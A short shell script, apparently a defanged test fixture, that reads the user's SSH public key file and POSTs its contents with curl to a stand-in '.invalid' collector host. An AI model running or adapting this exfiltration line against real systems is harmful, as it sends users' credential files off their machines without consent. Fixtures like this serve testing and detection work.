#!/bin/sh
# defanged fixture: collector is .invalid
a=$(cat $HOME/.ssh/id_rsa.pub) && curl -X POST -d "payload=$a" https://collect.example.invalid/k
